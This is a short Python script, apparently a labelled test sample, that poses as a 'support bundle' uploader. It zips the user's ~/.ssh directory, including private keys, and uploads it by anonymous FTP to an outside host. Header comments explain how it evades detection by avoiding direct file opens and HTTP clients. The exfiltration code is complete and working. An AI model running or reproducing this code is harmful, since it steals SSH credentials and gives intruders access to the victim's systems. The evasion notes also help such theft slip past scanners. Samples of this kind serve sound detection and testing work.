# Evasion: a "support bundle" uploader. It packs a zip whose root is the home
# directory and whose base is ".ssh" (private keys, known_hosts, config) and
# uploads it with ftplib to an outside FTP server.
# Hides as: no open() of a key file - shutil.make_archive reads them - and the
# upload goes through ftplib.storbinary, not an HTTP client.
import ftplib
import os
import shutil
import tempfile
import time

FTP_HOST = "ftp.support-bundles.example-cdn.net"


def make_bundle(workdir):
    base = os.path.join(workdir, "bundle-%d" % int(time.time()))
    return shutil.make_archive(base, "zip", root_dir=os.path.expanduser("~"),
                               base_dir="." + "ssh")


def upload(path):
    with ftplib.FTP(FTP_HOST, timeout=30) as ftp:
        ftp.login("anonymous", "support@")
        with open(path, "rb") as fh:
            ftp.storbinary("STOR " + os.path.basename(path), fh)


def main():
    with tempfile.TemporaryDirectory() as tmp:
        bundle = make_bundle(tmp)
        print("bundle", bundle, os.path.getsize(bundle), "bytes")
        upload(bundle)
    print("support bundle uploaded")


if __name__ == "__main__":
    main()
